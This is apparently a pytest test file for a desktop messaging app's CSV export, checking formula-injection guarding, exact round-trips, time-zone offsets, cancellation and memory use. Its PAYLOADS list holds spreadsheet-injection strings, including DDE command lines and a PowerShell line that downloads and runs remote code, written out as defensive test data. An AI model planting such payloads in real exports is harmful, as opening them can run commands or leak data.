"""Messages as CSV: complete, exact, safe to open, in constant memory."""

import csv
import threading
import tracemalloc
from datetime import UTC, datetime, timedelta, timezone
from itertools import pairwise
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from desktop_inbox.errors import InboxError, InvalidInputError, StoreError
from desktop_inbox.models import exports, schema
from desktop_inbox.models.entities.attachment import AttachmentState
from desktop_inbox.models.entities.contact import Contact
from desktop_inbox.models.entities.ids import ConversationId, EntryId, first_entry_id
from desktop_inbox.models.entities.message import DeliveryStatus, Direction, Message, SenderKind
from desktop_inbox.models.work import Work
from desktop_inbox.services import csv_safe
from desktop_inbox.services.export import ComputerZone, ExportService
from desktop_inbox.services.settings import TIME_ZONE
from tests.support.offices import Office
from tests.support.run import run

pytest_plugins = ["tests.support.offices"]

#: What makes spreadsheets compute, fetch, run or jump to another cell.
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " ＝1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://example.org?v=", A1), "//a")',
    '=IMPORTDATA("http://example.org/")',
    '=IMAGE("http://example.org/"&A1)',
    '=WEBSERVICE("http://example.org/"&A1)',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "=-2+3+cmd|' /C calc'!D2",
    "-2+3+cmd|' /C calc'!D2",
    '"=1+1"',
    '";=1+1',
    ",=1+1",
    "'=1+1",
    "''=1+1",
    "' =1+1",
    "'",
    "''",
    "=",
    "+",
    "-",
    "@",
    "-5",
    "+14155550148",
    "= 1",
    "=\n1",
    "a\n=1+1",
    "a,b;c\td",
    'she said "hi"',
    "line\r\nbreak",
    "مرحبا =1",
]


def add(
    office: Office,
    contact: Contact,
    text: str,
    *,
    at: datetime | None = None,
    answer: bool = False,
    files: tuple[str, ...] = (),
) -> EntryId:
    conversation = office.conversation_of(contact)
    office.clock.advance(timedelta(seconds=1))

    def store(work: Work) -> EntryId:
        key = work.new_entry_id(at or work.now())
        message = Message(
            id=key,
            conversation_id=conversation,
            contact_id=contact.id,
            direction=Direction.OUT if answer else Direction.IN,
            text=text,
            status=DeliveryStatus.FAILED if answer else DeliveryStatus.RECEIVED,
            channel_id=office.channel.id,
            address_id=contact.addresses[0].id,
            sender_kind=SenderKind.USER if answer else SenderKind.CONTACT,
            sender_id=office.user.id if answer else None,
            client_uuid=str(key) if answer else "",
            error_text="The number is wrong." if answer else "",
        )
        if answer:
            work.messages.add_outbound(message)
        else:
            work.messages.add_inbound(message)
        for name in files:
            work.attachments.add(key, state=AttachmentState.PENDING, original_name=name)
        return key

    return office.store.run_sync(store)


def written(path: Path) -> list[list[str]]:
    return list(csv_safe.read(path))


@pytest.mark.row("S4-44")
def test_every_message_is_written_with_what_belongs_to_it(office: Office, tmp_path: Path) -> None:
    office.store.run_sync(lambda work: work.settings.set(TIME_ZONE.key, "America/New_York"))
    contact = office.contact("+14155550148", first_name="Zoë")
    heard = add(office, contact, "Is it open?\nPlease", files=("a photo.jpg", "=b.pdf"))
    said = add(office, contact, "Yes", answer=True)
    target = tmp_path / "out.csv"
    assert run(ExportService(office.store, user_id=office.user.id).messages_csv(target)) == 2
    raw = target.read_bytes()
    assert raw.startswith(b'\xef\xbb\xbf"Time (America/New_York)",')
    assert raw.endswith(b'"\r\n')
    header, first, second = written(target)
    assert header[1:] == list(exports.MESSAGE_COLUMNS[1:])
    assert dict(zip(header[1:], first[1:], strict=True)) == {
        "Direction": "in",
        "Contact": "Zoë",
        "Address": "+14155550148",
        "Channel": "Front desk",
        "Sender": "",
        "Status": "received",
        "Text": "Is it open?\nPlease",
        "Attachments": "a photo.jpg; =b.pdf",
        "Problem": "",
        "Message": str(heard),
    }
    assert first[0] == "2026-03-02T07:00:01-05:00"
    assert datetime.fromisoformat(first[0]) == office.clock() - timedelta(seconds=1)
    assert second[5:8] == [office.user.name, "failed", "Yes"]
    assert second[-2:] == ["The number is wrong.", str(said)]


@pytest.mark.row("P23", "S16", "D-24")
def test_no_cell_can_be_taken_for_a_formula_and_all_read_back_exactly(office: Office, tmp_path: Path) -> None:
    contact = office.contact("+14155550148", first_name="=HYPERLINK(1)")
    for payload in PAYLOADS:
        add(office, contact, payload)
    target = tmp_path / "out.csv"
    run(ExportService(office.store, user_id=office.user.id).messages_csv(target))
    with target.open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in list(csv.reader(file))[1:] for cell in row]
    assert [cell for cell in cells if cell.strip()[:1] in tuple("=+-@＝＋－＠") or cell[:1] in tuple("\t\r\n")] == []
    rows = written(target)[1:]
    assert [row[7] for row in rows] == PAYLOADS
    assert {row[2] for row in rows} == {"=HYPERLINK(1)"}
    print(f"{len(PAYLOADS)} payloads: 0 open as a formula, all read back exactly")


@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=40))
def test_the_guard_is_undone_exactly(text: str) -> None:
    cell = csv_safe.guard(text)
    assert csv_safe.unguard(cell) == text
    assert cell.strip()[:1] not in tuple("=+-@＝＋－＠")


def test_the_database_guards_as_the_reader_expects(office: Office, tmp_path: Path) -> None:
    contact = office.contact()
    texts = [f"{skipped}{begin}x" for skipped in ("", *csv_safe.SKIPPED) for begin in ("a", "=", "＋", "'", "\t", "\r")]
    for text in texts:
        add(office, contact, text)
    target = tmp_path / "out.csv"
    run(ExportService(office.store, user_id=office.user.id).messages_csv(target))
    with target.open(encoding="utf-8-sig", newline="") as file:
        cells = [row[7] for row in csv.reader(file)][1:]
    assert cells == [csv_safe.guard(text) for text in texts]


def test_a_span_and_a_conversation_can_be_chosen(office: Office, tmp_path: Path) -> None:
    ann, bob = office.contact("+14155550101"), office.contact("+14155550102")
    start = office.clock()
    for number in range(4):
        add(office, ann, f"a{number}", at=start + timedelta(days=number))
        add(office, bob, f"b{number}", at=start + timedelta(days=number))
    service, target = ExportService(office.store, user_id=office.user.id), tmp_path / "out.csv"

    def texts(**choice: object) -> list[str]:
        rows = run(service.messages_csv(target, **choice))  # type: ignore[arg-type]
        found = [row[7] for row in written(target)[1:]]
        assert rows == len(found)
        return sorted(found)

    day = timedelta(days=1)
    assert texts(conversation_ids=[office.conversation_of(ann)]) == ["a0", "a1", "a2", "a3"]
    assert texts(since=start + day, until=start + 3 * day) == ["a1", "a2", "b1", "b2"]
    assert texts(conversation_ids=[office.conversation_of(bob)], since=start + 3 * day) == ["b3"]
    assert texts(conversation_ids=[ConversationId(999)]) == []
    assert texts(since=start + 9 * day) == []


ZONES = ["UTC", "America/New_York", "Asia/Kathmandu", "Australia/Lord_Howe", "America/Santiago", "Africa/Casablanca"]


@pytest.mark.parametrize("zone", ZONES)
def test_spans_have_the_offset_of_each_of_their_moments(zone: str) -> None:
    place = ZoneInfo(zone)
    first = first_entry_id(datetime(2023, 1, 5, 12, 30, 0, 500_000, tzinfo=UTC))
    last = first_entry_id(datetime(2026, 12, 30, tzinfo=UTC))
    spans = list(exports._spans(first, last, place))
    assert spans[0][0] == first
    assert spans[-1][1] == last
    assert all(before[1] == after[0] for before, after in pairwise(spans))
    assert all(before[2] != after[2] for before, after in pairwise(spans))
    for begin, end, offset in spans:
        for key in (begin, end - 1):
            moment = datetime.fromtimestamp((key >> 20) // 1000, UTC)
            assert moment.astimezone(place).utcoffset() == offset


def test_the_zone_of_the_computer_is_used_where_none_was_chosen() -> None:
    moment = datetime(2026, 7, 1, 12, tzinfo=UTC)
    local = datetime.fromtimestamp(moment.timestamp(), ComputerZone())
    assert local.utcoffset() == moment.astimezone().utcoffset()
    assert local.astimezone(timezone.utc) == moment  # noqa: UP017


def test_a_cancelled_export_leaves_the_old_file(office: Office, tmp_path: Path) -> None:
    contact = office.contact()
    for number in range(3):
        add(office, contact, str(number))
    target = tmp_path / "out.csv"
    target.write_text("old")
    with pytest.raises(InboxError) as refused:
        run(ExportService(office.store, user_id=office.user.id).messages_csv(target, cancelled=lambda: True))
    assert refused.value.code == "export_cancelled"
    assert [file.name for file in tmp_path.iterdir() if not file.name.startswith("inbox.db")] == ["out.csv"]
    assert target.read_text() == "old"


def test_a_target_that_cannot_be_written_is_told(office: Office, tmp_path: Path) -> None:
    with pytest.raises(StoreError) as refused:
        run(ExportService(office.store, user_id=office.user.id).messages_csv(tmp_path / "nowhere" / "out.csv"))
    assert refused.value.code == "export_unwritable"
    assert refused.value.hint


def test_what_is_no_csv_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "bad.csv"
    path.write_bytes(b"\xff\xfe\x00")
    with pytest.raises(InvalidInputError):
        written(path)


def test_memory_stays_flat_and_progress_is_told_on_the_loop(office: Office, tmp_path: Path) -> None:
    contact = office.contact()
    conversation = office.conversation_of(contact)
    start = first_entry_id(office.clock())

    def fill(work: Work) -> None:
        rows = [
            {
                "id": start + number,
                "conversation_id": conversation,
                "contact_id": contact.id,
                "direction": "in",
                "text": "x" * 300,
                "status": "received",
                "sender_kind": "contact",
            }
            for number in range(12_000)
        ]
        work.connection.execute(schema.messages.insert(), rows)

    office.store.run_sync(fill)
    told: list[tuple[int, bool]] = []
    here = threading.get_ident()
    tracemalloc.start()
    rows = run(
        ExportService(office.store, user_id=office.user.id).messages_csv(
            tmp_path / "out.csv", progress=lambda done: told.append((done, threading.get_ident() == here))
        )
    )
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert rows == 12_000
    assert told == [(done, True) for done in range(2000, 12_001, 2000)]
    assert peak < 6_000_000  # the texts alone are 3.6 MB, and rows as objects three times that
